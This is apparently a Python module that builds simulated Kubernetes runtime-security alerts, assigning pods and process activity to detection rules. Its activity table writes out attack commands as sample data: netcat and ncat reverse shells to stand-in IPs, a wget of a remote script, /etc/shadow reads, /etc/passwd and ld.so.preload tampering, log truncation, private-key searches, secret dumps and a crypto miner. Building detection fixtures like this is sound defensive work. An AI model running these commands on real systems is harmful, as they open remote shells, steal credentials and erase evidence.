"""Plausible event field values for simulated alerts: the pods on a node and what their processes did.

Each rule is matched to an activity (a shell, a sensitive-file read, a connection to the API server, ...)
from its name and tags; the activity supplies the fields that tell the story and `fill_fields` fills in
whatever else a rule's output template names.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

# (namespace, deployment-ish name, image repository, tag)
_WORKLOADS = (
    ("shop", "web", "docker.io/library/nginx", "1.27"),
    ("shop", "cart", "ghcr.io/acme/cart", "2.3.1"),
    ("payments", "api", "registry.example.com/payments/api", "4.1.0"),
    ("default", "debug-tools", "docker.io/library/alpine", "3.20"),
    ("monitoring", "grafana", "docker.io/grafana/grafana", "11.2.0"),
    ("data", "postgres", "docker.io/library/postgres", "16.4"),
    ("ci", "runner", "ghcr.io/actions/actions-runner", "2.319.1"),
    ("kube-system", "coredns", "registry.k8s.io/coredns/coredns", "v1.11.3"),
)

_POD_CHARS = "bcdfghjklmnpqrstvwxz2456789"


@dataclass(frozen=True, slots=True)
class Workload:
    namespace: str
    pod: str
    container: str
    image: str
    tag: str
    container_id: str
    pod_ip: str
    start_ts: int


def node_workloads(rng: random.Random, count: int = 4) -> list[Workload]:
    """The pods running on one node, stable for a given random state."""
    picked = rng.sample(_WORKLOADS, count)
    out = []
    for ns, name, image, tag in picked:
        suffix = "".join(rng.choice(_POD_CHARS) for _ in range(5))
        rs = "".join(rng.choice(_POD_CHARS) for _ in range(9))
        out.append(
            Workload(
                namespace=ns,
                pod=f"{name}-{rs}-{suffix}",
                container=name,
                image=image,
                tag=tag,
                container_id=f"{rng.getrandbits(48):012x}",
                pod_ip=f"10.244.{rng.randint(0, 254)}.{rng.randint(2, 254)}",
                start_ts=1_795_000_000_000_000_000 + rng.getrandbits(40),
            )
        )
    return out


# Activity variants: field values that make a rule's alert read like the real thing.
_ACTIVITIES: dict[str, tuple[dict[str, object], ...]] = {
    "shell": (
        {"proc.name": "bash", "proc.cmdline": "bash", "proc.pname": "runc", "proc.tty": 34816},
        {
            "proc.name": "sh",
            "proc.cmdline": "sh -c clear; (bash || ash || sh)",
            "proc.pname": "runc",
            "proc.tty": 34816,
        },
        {"proc.name": "ash", "proc.cmdline": "ash", "proc.pname": "containerd-shim", "proc.tty": 34817},
    ),
    "sensitive_read": (
        {
            "proc.name": "cat",
            "proc.cmdline": "cat /etc/shadow",
            "fd.name": "/etc/shadow",
            "proc.pname": "bash",
        },
        {
            "proc.name": "python3",
            "proc.cmdline": "python3 -c print(open('/etc/shadow').read())",
            "fd.name": "/etc/shadow",
            "proc.pname": "sh",
        },
        {
            "proc.name": "less",
            "proc.cmdline": "less /etc/sudoers",
            "fd.name": "/etc/sudoers",
            "proc.pname": "bash",
        },
        {
            "proc.name": "head",
            "proc.cmdline": "head -n 20 /etc/pam.d/common-auth",
            "fd.name": "/etc/pam.d/common-auth",
            "proc.pname": "bash",
        },
    ),
    "write_etc": (
        {"proc.name": "sed", "proc.cmdline": "sed -i s/nologin/bash/ /etc/passwd", "fd.name": "/etc/passwd"},
        {
            "proc.name": "sh",
            "proc.cmdline": "sh -c echo /tmp/x.so > /etc/ld.so.preload",
            "fd.name": "/etc/ld.so.preload",
        },
        {"proc.name": "tee", "proc.cmdline": "tee -a /etc/crontab", "fd.name": "/etc/crontab"},
    ),
    "k8s_api": (
        {
            "proc.name": "curl",
            "proc.cmdline": "curl -sk https://kubernetes.default.svc/api/v1/secrets",
            "evt.type": "connect",
            "fd.rport": 443,
            "fd.sport": 443,
            "fd.rip": "10.96.0.1",
        },
        {
            "proc.name": "kubectl",
            "proc.cmdline": "kubectl get secrets -A",
            "evt.type": "connect",
            "fd.rport": 443,
            "fd.sport": 443,
            "fd.rip": "10.96.0.1",
        },
    ),
    "drop_exec": (
        {
            "proc.name": "xmrig",
            "proc.exe": "/tmp/xmrig",
            "proc.exepath": "/tmp/xmrig",
            "proc.cmdline": "xmrig --donate-level 1 -o pool.example.net:3333",
            "proc.cwd": "/tmp/",
        },
        {
            "proc.name": "kinsing",
            "proc.exe": "/var/tmp/kinsing",
            "proc.exepath": "/var/tmp/kinsing",
            "proc.cmdline": "kinsing",
            "proc.cwd": "/var/tmp/",
        },
    ),
    "netcat": (
        {"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "proc.pname": "sh"},
        {
            "proc.name": "ncat",
            "proc.cmdline": "ncat --sh-exec /bin/bash 198.51.100.23 9001",
            "proc.pname": "bash",
        },
    ),
    "clear_log": (
        {
            "proc.name": "truncate",
            "proc.cmdline": "truncate -s 0 /var/log/auth.log",
            "fd.name": "/var/log/auth.log",
            "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC",
        },
        {
            "proc.name": "bash",
            "proc.cmdline": "bash -c > /var/log/syslog",
            "fd.name": "/var/log/syslog",
            "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC",
        },
    ),
    "search_keys": (
        {"proc.name": "grep", "proc.cmdline": "grep -r BEGIN PRIVATE /", "proc.pname": "bash"},
        {"proc.name": "find", "proc.cmdline": "find / -name id_rsa", "proc.pname": "sh"},
    ),
    "outbound": (
        {
            "proc.name": "xmrig",
            "proc.cmdline": "xmrig -o 198.51.100.23:3333",
            "evt.type": "connect",
            "fd.rport": 3333,
            "fd.sport": 3333,
            "fd.rip": "198.51.100.23",
        },
    ),
    "generic": (
        {"proc.name": "python3", "proc.cmdline": "python3 /app/worker.py", "proc.pname": "sh"},
        {"proc.name": "wget", "proc.cmdline": "wget -q http://203.0.113.7/a.sh", "proc.pname": "sh"},
        {"proc.name": "chmod", "proc.cmdline": "chmod +x /tmp/a.sh", "proc.pname": "sh"},
    ),
}

_KEYWORDS = (
    ("netcat", "netcat"),
    ("shell", "shell"),
    ("sensitive", "sensitive_read"),
    ("below etc", "write_etc"),
    ("k8s api", "k8s_api"),
    ("drop and execute", "drop_exec"),
    ("not part of base image", "drop_exec"),
    ("log", "clear_log"),
    ("private key", "search_keys"),
    ("password", "search_keys"),
    ("outbound", "outbound"),
    ("mining", "outbound"),
)


def activity_kind(rule_name: str, tags: tuple[str, ...] = ()) -> str:
    lowered = rule_name.lower()
    for keyword, kind in _KEYWORDS:
        if keyword in lowered:
            return kind
    if "shell" in tags:
        return "shell"
    return "generic"


def activity(kind: str, rng: random.Random) -> dict[str, object]:
    return dict(rng.choice(_ACTIVITIES.get(kind, _ACTIVITIES["generic"])))


def _ancestors(values: dict[str, object]) -> list[str]:
    return [
        str(values.get("proc.pname", "bash")),
        "containerd-shim",
        "systemd",
        "<NA>",
        "<NA>",
        "<NA>",
        "<NA>",
    ]


def fill_fields(names: list[str], values: dict[str, object], w: Workload, rng: random.Random) -> None:
    """Add a value for each of `names` missing from `values`, consistent with what is there."""
    missing = [n for n in names if n not in values]
    if not missing:
        return
    simple = _simple_values(values, w, rng)
    for name in missing:
        values[name] = simple[name] if name in simple else _derived(name, values, w, rng, simple)


def _simple_values(values: dict[str, object], w: Workload, rng: random.Random) -> dict[str, object]:
    proc = str(values.get("proc.name", "sh"))
    cmdline = str(values.get("proc.cmdline", proc))
    evt_type = str(values.get("evt.type", "openat" if "fd.name" in values else "execve"))
    simple: dict[str, object] = {
        "evt.type": evt_type,
        "evt.res": "SUCCESS",
        "evt.rawres": 0,
        "evt.dir": "<",
        "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER" if evt_type == "execve" else "O_RDONLY|O_CLOEXEC",
        "evt.args": f"res=0 {cmdline}",
        "user.name": "root",
        "user.uid": 0,
        "user.loginuid": -1,
        "user.loginname": "<NA>",
        "group.gid": 0,
        "group.name": "root",
        "proc.tty": 0,
        "proc.pid": 1000 + rng.randrange(60000),
        "proc.ppid": 900 + rng.randrange(60000),
        "proc.exe": proc,
        "proc.exepath": f"/usr/bin/{proc}",
        "proc.args": cmdline.partition(" ")[2],
        "proc.pname": "bash",
        "proc.pcmdline": str(values.get("proc.pname", "bash")),
        "proc.pexe": str(values.get("proc.pname", "bash")),
        "proc.pexepath": f"/usr/bin/{values.get('proc.pname', 'bash')}",
        "proc.sname": str(values.get("proc.pname", "bash")),
        "proc.cwd": "/",
        "thread.cap_effective": "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETGID CAP_SETUID",
        "container.id": w.container_id,
        "container.name": w.container,
        "container.image": f"{w.image}:{w.tag}",
        "container.image.repository": w.image,
        "container.image.tag": w.tag,
        "container.start_ts": w.start_ts,
        "container.privileged": "false",
        "k8s.pod.name": w.pod,
        "k8s.ns.name": w.namespace,
        "fd.type": "ipv4" if evt_type == "connect" else "file",
        "fd.typechar": "4" if evt_type == "connect" else "f",
        "fd.l4proto": "tcp",
        "fd.lport": 32768 + rng.randrange(28000),
        "fd.cip": w.pod_ip,
        "fd.sip": str(values.get("fd.rip", "10.96.0.1")),
        "fd.rip": "10.96.0.1",
        "fd.sport": values.get("fd.rport", 443),
        "fd.rport": 443,
        "fd.sip.name": "kubernetes.default.svc.cluster.local",
        "proc.is_exe_upper_layer": "true",
    }
    return simple


def _derived(
    name: str, values: dict[str, object], w: Workload, rng: random.Random, simple: dict[str, object]
) -> object:
    """Values that depend on the field's argument or on other fields; `<NA>` when unknown."""
    base, _, arg = name.partition("[")
    arg = arg.rstrip("]")
    evt_type = str(simple["evt.type"])
    fd = str(values.get("fd.name", ""))
    if name == "fd.name":
        if evt_type == "connect":
            lport = values.setdefault("fd.lport", simple["fd.lport"])
            return f"{w.pod_ip}:{lport}->{values.get('fd.rip', '10.96.0.1')}:{values.get('fd.rport', 443)}"
        return "<NA>"
    if name == "fd.nameraw":
        return fd or "<NA>"
    if name == "fd.directory":
        return fd.rsplit("/", 1)[0] or "/" if fd else "<NA>"
    if name == "fd.filename":
        return fd.rsplit("/", 1)[-1] if fd else "<NA>"
    if base in ("proc.aname", "proc.aexepath"):
        level = int(arg) if arg.isdigit() else 1
        chain = _ancestors(values)
        found = chain[level - 1] if 0 < level <= len(chain) else "<NA>"
        return found if base == "proc.aname" or found == "<NA>" else f"/usr/bin/{found}"
    if name.startswith("proc.exe_ino."):
        return w.start_ts + rng.randrange(10**12)
    return "<NA>"
